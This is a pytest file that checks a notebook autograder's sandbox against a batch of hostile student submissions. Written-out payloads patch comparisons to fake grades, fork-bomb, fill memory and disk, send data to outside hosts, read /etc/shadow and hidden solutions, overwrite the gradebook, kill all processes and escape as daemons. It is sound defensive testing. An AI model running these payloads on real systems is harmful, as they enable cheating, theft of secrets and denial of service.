"""Hostile submissions, graded in one sandboxed batch with honest ones.

Each hostile notebook is built from the learner notebook (stubs: 0 points honestly) or
from the reference (23 points honestly) plus an attack. One `grade` run grades them all
(module fixture); each test then asserts a concrete outcome: the score in the JSON and
the gradebook, the reason, the feedback text, file hashes, leftover processes.
"""

from __future__ import annotations

import copy
import hashlib
import json
import os
import socket
import sqlite3
import threading
from pathlib import Path

import nbformat
import pytest

from autograder.assignments import ROOT, get_assignment
from autograder.sandbox import SANDBOX_UID
from conftest import add_cell, edit, learner_notebook, reference_notebook, run_cli, write

KEY = "03_qkv"
FULL = 23.0
MARKER = "hostile-marker-7f3a9c"
SOLUTIONS = get_assignment(KEY).solutions
HIDDEN = get_assignment(KEY).hidden_tests
HIDDEN_TEXT = '"""Hidden tests for exercise 03_qkv'  # first line of the hidden tests
SOLUTION_TEXT = "Reference solutions for exercise 03_qkv"
OTHER_TEXT = "OTHER-LEARNER-SECRET-ANSWER-0451"
CANARY_TEXT = "HOST-CANARY-SECRET-9931"
TIMEOUT = "40"  # seconds per submission: the two endless loops cost this much each; the
# memory hog alone takes 6-11 s to fill its 4 GiB cap on a 2-core machine


def _sha(path: Path) -> str:
    return hashlib.sha256(Path(path).read_bytes()).hexdigest()


def _stub():
    return learner_notebook(KEY)


def _ref():
    return reference_notebook(KEY)


def _grade_cell(nb, gid):
    return next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == gid)


# --- the hostile and honest notebooks -------------------------------------------------------

WRONG_ANSWERS = '''
def softmax(x, axis=-1):
    return np.full_like(x, 7.0)
def attention_numpy(q, k, v, mask=None):
    return np.full_like(q, 7.0), np.full_like(q, 7.0)
def scaled_dot_product_attention(q, k, v, mask=None, dropout_p=0.0):
    w = torch.full(q.shape[:-1] + (k.shape[-2],), 7.0, dtype=q.dtype)
    return w @ v, w
def padding_mask(tokens, pad_id=0):
    return torch.zeros(tokens.shape[0], 1, 1, tokens.shape[1], dtype=torch.bool)
def causal_mask(size, device=None):
    return torch.zeros(size, size, dtype=torch.bool)
'''

PATCH_COMPARISONS = '''
import numpy as np, torch, numpy.testing, torch.testing
np.allclose = lambda *a, **k: True
np.array_equal = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
torch.testing.assert_close = lambda *a, **k: None
torch.Tensor.__eq__ = lambda *a, **k: True
''' + WRONG_ANSWERS

PATCH_BUILTINS = '''
import builtins, math, operator, sys
math.isclose = lambda *a, **k: True
operator.eq = lambda *a, **k: True
sys.modules["numpy"].isclose = lambda *a, **k: True
builtins.isinstance = lambda *a, **k: True
builtins.len = lambda *a, **k: 2
''' + WRONG_ANSWERS

IPYTHON_HOOKS = '''
import sys, builtins, inspect, gc
def _hook():
    try:
        _ip = get_ipython()
        _ip.input_transformers_cleanup.append(lambda lines: ["pass\\n"])
        _ip.events.register("pre_run_cell", lambda info: print(info.raw_cell))
    except NameError:
        pass
    sys.settrace(lambda *a: None)
_ = _hook()
_orig_import = builtins.__import__
def _spy(name, *a, **k):
    print("IMPORT", name, file=sys.stderr)
    return _orig_import(name, *a, **k)
builtins.__import__ = _spy
def softmax(x, axis=-1):
    seen = [repr(f.frame.f_code.co_filename) for f in inspect.stack()]
    seen += [repr(m) for m in list(sys.modules) if "hidden" in m or "solution" in m]
    raise ValueError("SEEN " + " ".join(seen))
'''

TENSOR_SUBCLASS = '''
class Sneaky(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        return True
def scaled_dot_product_attention(q, k, v, mask=None, dropout_p=0.0):
    z = torch.zeros(q.shape[:-1] + (k.shape[-2],), dtype=q.dtype)
    return (z @ v).as_subclass(Sneaky), z.as_subclass(Sneaky)
def causal_mask(size, device=None):
    return torch.zeros(size, size, dtype=torch.bool).as_subclass(Sneaky)
def padding_mask(tokens, pad_id=0):
    return torch.zeros(tokens.shape[0], 1, 1, tokens.shape[1], dtype=torch.bool).as_subclass(Sneaky)
'''

LYING_EQ = '''
class Liar:
    shape = (2, 3)
    dtype = "float32"
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __bool__(self): return True
    def __len__(self): return 2
    def __iter__(self): return iter([Liar(), Liar()])
    def __getitem__(self, i): return Liar()
    def __array__(self, *a, **k): return np.ones(1)
    def __reduce__(self):
        import os
        return (os.system, ("touch /tmp/PWNED-%s" % "''' + MARKER + '''",))
def softmax(x, axis=-1): return Liar()
def attention_numpy(q, k, v, mask=None): return Liar()
def scaled_dot_product_attention(q, k, v, mask=None, dropout_p=0.0): return (Liar(), Liar())
def padding_mask(tokens, pad_id=0): return Liar()
def causal_mask(size, device=None): return Liar()
'''

SYS_EXIT_IN_FUNCTION = '''
def softmax(x, axis=-1):
    import sys
    sys.exit(3)
'''

SEGFAULT = '''
def padding_mask(tokens, pad_id=0):
    import ctypes
    ctypes.string_at(0)
'''

SIGINT_LOOP = '''
def causal_mask(size, device=None):
    import signal
    for s in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP, signal.SIGALRM):
        signal.signal(s, signal.SIG_IGN)
    while True:
        pass
'''

MEMORY_HOG = '''
def _one():
    try:
        return bytearray(64 * 2**30)
    except MemoryError:
        return None
_hog = _one()
_hogs = [bytearray(2**28) for _ in range(64)]
'''

FORK_BOMB = '''
import os, time
def _bomb():
    n = 0
    for _ in range(100000):
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            time.sleep(600)
            os._exit(0)
        n += 1
    return n
_forked = _bomb()
'''

DISK_FILL = '''
import os
def _fill(path):
    try:
        with open(path, "wb") as f:
            for _ in range(4096):
                f.write(b"\\0" * 2**20)
    except OSError as e:
        return str(e)
_errs = [_fill("/tmp/fill.bin"), _fill(os.path.expanduser("~/fill-home.bin")), _fill("fill-cwd.bin")]
_errs += [_fill(f"/tmp/more{i}.bin") for i in range(8)]
'''

HUGE_OUTPUT = '''
import sys
_ = sys.stdout.write("A" * 50_000_000)
def _spam():
    for _ in range(200):
        print("C" * 100_000, flush=True)
_ = _spam()
_ = sys.stderr.write("B" * 50_000_000)
'''

NETWORK = '''
import socket
def _net():
    res = []
    for host, port in [("127.0.0.1", {port}), ("1.1.1.1", 53), ("8.8.8.8", 443)]:
        try:
            s = socket.create_connection((host, port), timeout=2)
            s.sendall(b"EXFIL")
            res.append("connected")
        except OSError as e:
            res.append(f"{{type(e).__name__}}:{{e.errno}}")
    return res
_res = _net()
def softmax(x, axis=-1):
    raise ValueError("NET " + " ".join(_res))
'''

READ_SECRETS = '''
def _read(p):
    try:
        with open(p, errors="replace") as f:
            return f.read()[:{n}]
    except Exception as e:
        return type(e).__name__
_paths = {paths!r}
def softmax(x, axis=-1):
    raise ValueError("READ " + " | ".join(_read(p) for p in _paths))
_loot = [_read(p) for p in _paths]
'''

WRITE_FILES = '''
import os
def _vandal():
    done = []
    for p in {paths!r}:
        try:
            with open(p, "ab") as f:
                f.write(b"PWNED")
            done.append("wrote " + p)
        except Exception as e:
            done.append(type(e).__name__)
        try:
            os.remove(p)
            done.append("removed " + p)
        except Exception as e:
            done.append(type(e).__name__)
    return done
_done = _vandal()
def softmax(x, axis=-1):
    raise ValueError("WRITE " + " ".join(_done))
'''

KILL_ALL = '''
import os, signal
def _killall():
    if os.getuid() == 0:  # only ever meant to run sandboxed
        return
    for target in (-1, os.getppid(), 1):
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            pass
_ = _killall()
'''

ESCAPE_DAEMON = '''
import os, subprocess, sys
def _escape():
    subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)", "{marker}"], start_new_session=True,
                     stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(600)", "{marker}"])
        os._exit(0)
_ = _escape()
'''

OVERSIZED_REPLY = '''
def softmax(x, axis=-1):
    return np.zeros(2**26)
def attention_numpy(q, k, v, mask=None):
    r = []
    for _ in range(5000):
        r = [r]
    return r, r
'''

WARNINGS = '''
import sys, warnings
_plain_softmax = softmax
def softmax(x, axis=-1):
    warnings.warn("this is only a warning", UserWarning)
    print("debug: softmax called", file=sys.stderr)
    print("debug: on stdout")
    return _plain_softmax(x, axis=axis)
warnings.warn("a warning at load time", DeprecationWarning)
print("a line on stderr at load time", file=sys.stderr)
'''

EINSUM_FLOAT64 = '''
def scaled_dot_product_attention(q, k, v, mask=None, dropout_p=0.0):
    qd, kd, vd = q.double(), k.double(), v.double()
    scores = torch.einsum("...qd,...kd->...qk", qd, kd) / math.sqrt(q.shape[-1])
    if mask is not None:
        scores = scores.masked_fill(~mask, float("-inf"))
    w = torch.softmax(scores, dim=-1).nan_to_num(0.0)
    if mask is not None:
        w = w.masked_fill(~mask, 0.0)
    w = w.to(q.dtype)
    if dropout_p > 0.0:
        w = F.dropout(w, p=dropout_p)
    return torch.einsum("...qk,...kd->...qd", w, v), w
def softmax(x, axis=-1):
    e = np.exp(x.astype(np.float64) - x.max(axis=axis, keepdims=True))
    return (e / e.sum(axis=axis, keepdims=True)).astype(x.dtype)
'''

HELPER_CELL = '''
def _my_scale(q):
    return 1.0 / math.sqrt(q.shape[-1])

def _my_softmax_last(scores):
    return torch.softmax(scores, dim=-1)
'''

HELPER_USER = '''
def scaled_dot_product_attention(q, k, v, mask=None, dropout_p=0.0):
    scores = (q @ k.transpose(-2, -1)) * _my_scale(q)
    if mask is not None:
        scores = scores.masked_fill(~mask, torch.finfo(scores.dtype).min)
    weights = _my_softmax_last(scores)
    if mask is not None:
        weights = weights.masked_fill(~mask, 0.0)
    if dropout_p > 0.0:
        weights = F.dropout(weights, p=dropout_p)
    return weights @ v, weights
'''


def _flavour(nb, flavour: str) -> dict:
    """The reference notebook as saved by another front end (metadata only differs)."""
    d = json.loads(nbformat.writes(nb))
    if flavour == "jupyterlab":
        d["metadata"]["kernelspec"] = {"display_name": "Python 3 (ipykernel)", "language": "python", "name": "python3"}
        d["metadata"]["language_info"] = {"codemirror_mode": {"name": "ipython", "version": 3}, "file_extension": ".py",
                                          "mimetype": "text/x-python", "name": "python", "nbconvert_exporter": "python",
                                          "pygments_lexer": "ipython3", "version": "3.11.7"}
        for i, c in enumerate(d["cells"]):
            if c["cell_type"] == "code":
                c["execution_count"] = i
                c["outputs"] = [{"name": "stdout", "output_type": "stream", "text": ["ran\n"]}]
                c["metadata"]["tags"] = []
                c["metadata"]["editable"] = True
    elif flavour == "notebook7":
        d["metadata"]["toc-autonumbering"] = True
        for c in d["cells"]:
            c["metadata"]["jp-MarkdownHeadingCollapsed"] = False
            c["metadata"]["scrolled"] = True
            if isinstance(c["source"], str):
                c["source"] = c["source"].splitlines(keepends=True)
    elif flavour == "vscode":
        d["metadata"]["vscode"] = {"interpreter": {"hash": "ab" * 32}}
        d["metadata"]["language_info"] = {"name": "python", "version": "3.11.7"}
        for c in d["cells"]:
            c.pop("id", None)
            if c["cell_type"] == "code":
                c["metadata"]["vscode"] = {"languageId": "python"}
        d["nbformat_minor"] = 2
    elif flavour == "colab":
        d["metadata"] = {"colab": {"provenance": [], "toc_visible": True}, "kernelspec": {"name": "python3",
                         "display_name": "Python 3"}, "language_info": {"name": "python"}, "accelerator": "GPU"}
        d["nbformat_minor"] = 0
        for i, c in enumerate(d["cells"]):
            c.pop("id", None)
            c["metadata"] = {"id": f"cell{i:04x}", "colab": {"base_uri": "https://localhost:8080/"},
                             "outputId": f"{i:08x}-0000"}  # Colab drops the nbgrader metadata
            if c["cell_type"] == "code":
                c["source"] = c["source"] if isinstance(c["source"], str) else "".join(c["source"])
    return d


def _with_raw_cell(nb, source: str) -> dict:
    """The notebook as JSON with one more code cell whose source is one string (as compact as JSON gets)."""
    d = json.loads(nbformat.writes(nb))
    d["cells"].append({"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [], "source": source})
    return d


class _Listener:
    """A TCP server on the host's loopback: a sandboxed learner must never reach it."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(5)
        self.sock.settimeout(0.5)
        self.port = self.sock.getsockname()[1]
        self.received: list[bytes] = []
        self.stop = False
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.thread.start()

    def _run(self):
        while not self.stop:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(1)
                try:
                    self.received.append(conn.recv(100) or b"<connected>")
                except OSError:
                    self.received.append(b"<connected>")

    def close(self):
        self.stop = True
        self.thread.join(2)
        self.sock.close()


def _procs_left() -> list[str]:
    found = []
    for d in Path("/proc").iterdir():
        if not d.name.isdigit():
            continue
        try:
            cmd = (d / "cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
            status = (d / "status").read_text()
        except OSError:
            continue
        uid_line = next((ln for ln in status.splitlines() if ln.startswith("Uid:")), "")
        if MARKER in cmd or str(SANDBOX_UID) in uid_line.split()[1:2]:
            found.append(f"{d.name}: {cmd[:200]}")
    return found


@pytest.fixture(scope="module")
def batch(tmp_path_factory):
    base = tmp_path_factory.mktemp("adversarial")
    subs, out = base / "subs", base / "out"
    subs.mkdir()
    gradebook = out / "gradebook.db"
    canary = base / "canary.txt"
    canary.write_text(CANARY_TEXT)
    canary.chmod(0o644)
    other = subs / "zz_other.ipynb"
    listener = _Listener()
    nbs: dict[str, object] = {}

    # honest submissions
    nbs["honest_reference"] = _ref()
    nbs["honest_stub"] = _stub()
    nbs["honest_warnings"] = add_cell(_ref(), WARNINGS)
    nbs["honest_einsum_float64"] = add_cell(_ref(), EINSUM_FLOAT64)
    nb = add_cell(_ref(), HELPER_CELL, after_grade_id="setup")
    nbs["honest_helper_cell"] = add_cell(nb, HELPER_USER)
    for fl in ("jupyterlab", "notebook7", "vscode", "colab"):
        nbs[f"honest_{fl}"] = _flavour(_ref(), fl)
    o = _ref()
    o.cells.append(nbformat.v4.new_markdown_cell(OTHER_TEXT))
    nbs["zz_other"] = o

    # hostile submissions
    nbs["patch_comparisons"] = add_cell(_stub(), PATCH_COMPARISONS)
    nbs["patch_builtins"] = add_cell(_stub(), PATCH_BUILTINS)
    nbs["ipython_hooks"] = add_cell(_stub(), IPYTHON_HOOKS)
    nbs["tensor_subclass"] = add_cell(_stub(), TENSOR_SUBCLASS)
    nbs["lying_eq"] = add_cell(_stub(), LYING_EQ)
    nb = _ref()
    nb.cells.append(nbformat.v4.new_code_cell("assert True", metadata={"nbgrader": {
        "grade": True, "grade_id": "test_bonus", "locked": True, "points": 100, "schema_version": 3, "solution": False}}))
    nbs["forged_grade_cell"] = nb
    nb = _ref()
    nb.cells.append(copy.deepcopy(_grade_cell(nb, "test_softmax")))
    nbs["duplicated_grade_cell"] = nb
    nb = _stub()
    cell = _grade_cell(nb, "test_softmax")
    cell.source = "pass"
    cell.metadata["nbgrader"]["points"] = 1000
    nbs["edited_locked_cell"] = nb
    nb = _stub()
    nb.cells = [c for c in nb.cells if not c.metadata.get("nbgrader", {}).get("grade")]
    nbs["deleted_grade_cells"] = nb
    nbs["os_exit_at_load"] = add_cell(_stub(), "import os\n_ = os._exit(0)")
    nbs["sys_exit_in_function"] = add_cell(_ref(), SYS_EXIT_IN_FUNCTION)
    nbs["segfault"] = add_cell(_ref(), SEGFAULT)
    nbs["endless_loop_at_load"] = add_cell(_stub(), "def _spin():\n    while True:\n        pass\n_ = _spin()\n")
    nbs["sigint_ignored_loop"] = add_cell(_ref(), SIGINT_LOOP)
    nbs["memory_hog"] = add_cell(_ref(), MEMORY_HOG)
    nbs["fork_bomb"] = add_cell(_ref(), FORK_BOMB)
    nbs["disk_fill"] = add_cell(_ref(), DISK_FILL)
    nbs["huge_output"] = add_cell(_ref(), HUGE_OUTPUT)
    nbs["network"] = add_cell(_stub(), NETWORK.format(port=listener.port))
    nbs["read_hidden_and_solutions"] = add_cell(_stub(), READ_SECRETS.format(
        n=200, paths=[str(HIDDEN), str(SOLUTIONS), str(ROOT / "autograder" / "hidden" / "support.py")]))
    nbs["read_gradebook_and_others"] = add_cell(_stub(), READ_SECRETS.format(
        n=120, paths=[str(gradebook), str(other), str(canary), "/etc/shadow"]))
    nbs["write_gradebook_and_files"] = add_cell(_stub(), WRITE_FILES.format(
        paths=[str(gradebook), str(other), str(canary), str(SOLUTIONS), str(HIDDEN)]))
    nbs["kill_everything"] = add_cell(_ref(), KILL_ALL)
    nbs["escape_as_daemon"] = add_cell(_ref(), ESCAPE_DAEMON.format(marker=MARKER))
    nbs["oversized_reply"] = add_cell(_stub(), OVERSIZED_REPLY)

    # built to be slow or costly to process, just under the size limit (20 MiB)
    nbs["slow_parse_deep_nesting"] = _with_raw_cell(_ref(), "x = " + "(" * 200_000 + "1" + ")" * 200_000 + "\n")
    nbs["slow_parse_long_expression"] = _with_raw_cell(_ref(), "x = " + "1+" * 4_000_000 + "1\n")
    nbs["slow_parse_many_statements"] = _with_raw_cell(_ref(), "a=1\n" * (19 * 2**20 // 5))
    bomb = json.loads(nbformat.writes(_ref()))
    bomb["metadata"]["bomb"] = [[]] * 3_000_000
    nbs["json_container_bomb"] = bomb

    for name, nb in nbs.items():
        path = subs / f"{name}.ipynb"
        if isinstance(nb, dict):
            path.write_text(json.dumps(nb, separators=(",", ":")), encoding="utf-8")
        else:
            write(nb, path)
    (subs / "malformed_json.ipynb").write_text('{"cells": [ {"cell_type": "code", oops', encoding="utf-8")
    full = (subs / "honest_reference.ipynb").read_bytes()
    (subs / "truncated.ipynb").write_bytes(full[: len(full) // 2])
    with open(subs / "oversized.ipynb", "wb") as f:
        f.write(full[:-3] + b', "padding": "' + b"x" * (21 * 2**20) + b'"}\n')

    protected = [SOLUTIONS, HIDDEN, ROOT / "autograder" / "hidden" / "support.py", canary, other]
    before = {str(p): _sha(p) for p in protected}
    before_subs = {p.name: _sha(p) for p in subs.iterdir()}
    proc = run_cli("grade", str(subs), "--assignment", KEY, "--out", str(out), "--timeout", TIMEOUT, "--json")
    listener.close()
    assert proc.returncode == 0, proc.stderr[-3000:]
    data = json.loads(proc.stdout)
    by = {Path(r["notebook"]).stem: r for r in data["submissions"]}
    con = sqlite3.connect(str(gradebook))
    csv_rows = (out / f"{KEY}_grades.csv").read_text().splitlines()
    yield {
        "by": by, "out": out, "subs": subs, "gradebook": gradebook, "listener": listener, "before": before,
        "before_subs": before_subs, "protected": protected, "con": con, "csv": csv_rows, "stderr": proc.stderr,
        "leftover": _procs_left(),
    }
    con.close()


def _feedback(batch, name) -> str:
    return (batch["out"] / "feedback" / name / f"{KEY}.html").read_text(encoding="utf-8")


def _gb_score(batch, name) -> float:
    (score,) = batch["con"].execute(
        "SELECT SUM(COALESCE(g.manual_score, g.auto_score, 0)) FROM grade g "
        "JOIN submitted_notebook n ON g.notebook_id = n.id JOIN submitted_assignment a ON n.assignment_id = a.id "
        "WHERE a.student_id = ?", (name,)).fetchone()
    return score


def _expect(batch, name, score, status="graded"):
    r = batch["by"][name]
    assert r["status"] == status, (name, r.get("error"), r.get("checks"))
    assert r["score"] == score, (name, [(c["name"], c["hint"]) for c in r["checks"] if not c["passed"]], r["notes"])
    assert _gb_score(batch, name) == score
    assert r["max_score"] == FULL
    return r


def _hints(r) -> str:
    return " ".join(c["hint"] for c in r["checks"])


# --- every submission has its outcome; nothing leaks, nothing is left behind -----------------

def test_every_submission_has_a_gradebook_row_or_a_reason(batch):
    names = {p.stem for p in batch["subs"].glob("*.ipynb")}
    assert set(batch["by"]) == names
    students = {r[0] for r in batch["con"].execute("SELECT id FROM student")}
    assert students == names
    assert len(batch["csv"]) == len(names) + 1
    for r in batch["by"].values():
        assert r["status"] == "graded" or r["error"]


def test_no_process_is_left_behind(batch):
    assert batch["leftover"] == []


def test_protected_files_are_untouched(batch):
    after = {str(p): _sha(p) for p in batch["protected"]}
    assert after == batch["before"]
    assert {p.name: _sha(p) for p in batch["subs"].iterdir()} == batch["before_subs"]
    assert not list(Path("/tmp").glob(f"PWNED-{MARKER}*"))


def test_gradebook_is_intact_and_never_written_by_learners(batch):
    assert b"PWNED" not in batch["gradebook"].read_bytes()
    assert batch["con"].execute("PRAGMA integrity_check").fetchone() == ("ok",)


def test_no_secret_reaches_any_feedback_or_result(batch):
    texts = [p.read_text(encoding="utf-8") for p in (batch["out"] / "feedback").rglob("*.html")]
    texts += [p.read_text(encoding="utf-8") for p in (batch["out"] / "results").rglob("*.json")]
    texts.append(batch["stderr"])
    for secret in (HIDDEN_TEXT, SOLUTION_TEXT, OTHER_TEXT, CANARY_TEXT, "def _variants(", "SQLite format 3",
                   "root:"):
        assert not any(secret in t for t in texts), secret


# --- honest submissions ---------------------------------------------------------------------

@pytest.mark.parametrize("name", ["honest_reference", "honest_warnings", "honest_einsum_float64",
                                  "honest_helper_cell", "honest_jupyterlab", "honest_notebook7",
                                  "honest_vscode", "honest_colab", "zz_other"])
def test_honest_correct_answers_get_full_marks(batch, name):
    _expect(batch, name, FULL)


def test_honest_stub_gets_nothing(batch):
    _expect(batch, "honest_stub", 0.0)


def test_batch_neighbours_grade_as_when_graded_alone(batch, tmp_path):
    """The honest notebooks' scores in the hostile batch equal a grading of each alone."""
    from autograder.grader import Grader
    from autograder.sandbox import detect

    grader = Grader(get_assignment(KEY), sandbox=detect())
    for name in ("honest_reference", "honest_stub"):
        alone = grader.grade(batch["subs"] / f"{name}.ipynb")
        r = batch["by"][name]
        assert alone.score == r["score"]
        assert [c.passed for c in alone.checks] == [c["passed"] for c in r["checks"]]


# --- hostile submissions --------------------------------------------------------------------

@pytest.mark.parametrize("name", ["patch_comparisons", "patch_builtins", "tensor_subclass", "lying_eq"])
def test_lying_comparisons_earn_nothing(batch, name):
    _expect(batch, name, 0.0)


def test_ipython_hooks_and_import_spies_see_no_hidden_test(batch):
    r = _expect(batch, "ipython_hooks", 0.0)
    hints = _hints(r)
    assert "SEEN" in hints and "hidden" not in hints.replace("SEEN", "") and "test_03" not in hints


def test_forged_grade_cell_is_rejected(batch):
    r = _expect(batch, "forged_grade_cell", 0.0, status="error")
    assert "forged" in r["error"] and "test_bonus" in r["error"]
    assert "forged" in _feedback(batch, "forged_grade_cell")
    row = next(ln for ln in batch["csv"] if ln.startswith("forged_grade_cell,"))
    assert ",error," in row


def test_duplicated_grade_cell_is_rejected(batch):
    r = _expect(batch, "duplicated_grade_cell", 0.0, status="error")
    assert "test_softmax" in r["error"] and "repeats" in r["error"]


def test_edited_locked_cell_is_reported_and_changes_nothing(batch):
    r = _expect(batch, "edited_locked_cell", 0.0)
    assert any("test_softmax" in n and "edited" in n for n in r["notes"])
    assert "was edited" in _feedback(batch, "edited_locked_cell")


def test_deleted_grade_cells_are_reported(batch):
    r = _expect(batch, "deleted_grade_cells", 0.0)
    assert any("missing" in n for n in r["notes"])


def test_exit_at_load_earns_nothing(batch):
    r = _expect(batch, "os_exit_at_load", 0.0)
    assert "ended the grading process" in _hints(r)


def test_sys_exit_in_one_function_costs_only_that_part(batch):
    # attention_numpy calls the learner's softmax, so it fails too (as it would honestly)
    r = _expect(batch, "sys_exit_in_function", FULL - 3 - 4)
    assert all(c["passed"] for c in r["checks"] if c["part"] not in ("softmax", "attention_numpy"))
    assert "SystemExit" in _hints(r)


def test_segfault_costs_only_that_part(batch):
    r = _expect(batch, "segfault", FULL - 2)
    assert "ended the grading process" in _hints(r)


def test_endless_loop_at_load_is_cut(batch):
    r = _expect(batch, "endless_loop_at_load", 0.0)
    assert "did not finish" in _hints(r)


def test_sigint_ignoring_loop_is_killed(batch):
    r = _expect(batch, "sigint_ignored_loop", FULL - 2)
    assert "did not finish" in _hints(r)


def test_memory_hog_is_capped(batch):
    r = _expect(batch, "memory_hog", FULL)
    assert any("MemoryError" in n for n in r["notes"])


def test_fork_bomb_is_capped(batch):
    _expect(batch, "fork_bomb", FULL)


def test_disk_fill_is_capped(batch):
    _expect(batch, "disk_fill", FULL)
    assert not Path("/tmp/fill.bin").exists()


def test_huge_output_is_capped(batch):
    _expect(batch, "huge_output", FULL)
    assert (batch["out"] / "results" / KEY / "huge_output.json").stat().st_size < 100_000


def test_network_is_unreachable(batch):
    r = _expect(batch, "network", 0.0)
    hints = _hints(r)
    # loopback is the sandbox's own (refused); the outside world is unreachable
    assert "NET ConnectionRefusedError:111 OSError:101 OSError:101" in hints and "connected" not in hints
    assert batch["listener"].received == []


@pytest.mark.parametrize("name", ["read_hidden_and_solutions", "read_gradebook_and_others"])
def test_secrets_are_not_readable(batch, name):
    r = _expect(batch, name, 0.0)
    hints = _hints(r)
    assert "READ" in hints
    assert "FileNotFoundError" in hints or "PermissionError" in hints
    for secret in (HIDDEN_TEXT, SOLUTION_TEXT, OTHER_TEXT, CANARY_TEXT, "SQLite", "root:"):
        assert secret not in hints and secret not in _feedback(batch, name)


def test_writing_the_gradebook_and_files_fails(batch):
    r = _expect(batch, "write_gradebook_and_files", 0.0)
    hints = _hints(r)
    assert "WRITE" in hints and "wrote" not in hints and "removed" not in hints


def test_killing_everything_reaches_nothing_outside(batch):
    _expect(batch, "kill_everything", FULL)


def test_daemon_escape_is_ended(batch):
    _expect(batch, "escape_as_daemon", FULL)


def test_oversized_reply_is_refused(batch):
    r = _expect(batch, "oversized_reply", 0.0)
    assert "cannot accept" in _hints(r) or "too large" in _hints(r) or "MemoryError" in _hints(r)


@pytest.mark.parametrize("name,words", [("malformed_json", "not valid notebook JSON"),
                                        ("truncated", "not valid notebook JSON"),
                                        ("oversized", "MiB")])
def test_broken_notebooks_get_a_clear_error(batch, name, words):
    r = _expect(batch, name, 0.0, status="error")
    assert words in r["error"]
    row = next(ln for ln in batch["csv"] if ln.startswith(f"{name},"))
    assert ",error," in row


# --- notebooks built to be slow to process ---------------------------------------------------

@pytest.mark.parametrize("name", ["slow_parse_deep_nesting", "slow_parse_long_expression",
                                  "slow_parse_many_statements"])
def test_a_notebook_slow_to_parse_costs_only_its_own_time(batch, name):
    """Is a notebook under the size limit whose code is costly to parse handled in the sandbox, within its
    own time limit, without taking the trusted grader's time or memory (its other cells still count)?"""
    r = batch["by"][name]
    assert os.path.getsize(batch["subs"] / f"{name}.ipynb") < 20 * 2**20
    assert r["status"] == "graded" and r["seconds"] <= float(TIMEOUT) + 10, (r["status"], r["seconds"])
    assert any("could not be parsed" in n or "nested parentheses" in n for n in r["notes"]), r["notes"]
    assert r["score"] == FULL  # the cell that could not be parsed is skipped; the answers count


def test_a_json_container_bomb_is_refused_before_parsing(batch):
    """Is a notebook of millions of tiny JSON lists refused at once, not parsed into gigabytes?"""
    r = _expect(batch, "json_container_bomb", 0.0, status="error")
    assert "lists and objects" in r["error"] and r["seconds"] < 2
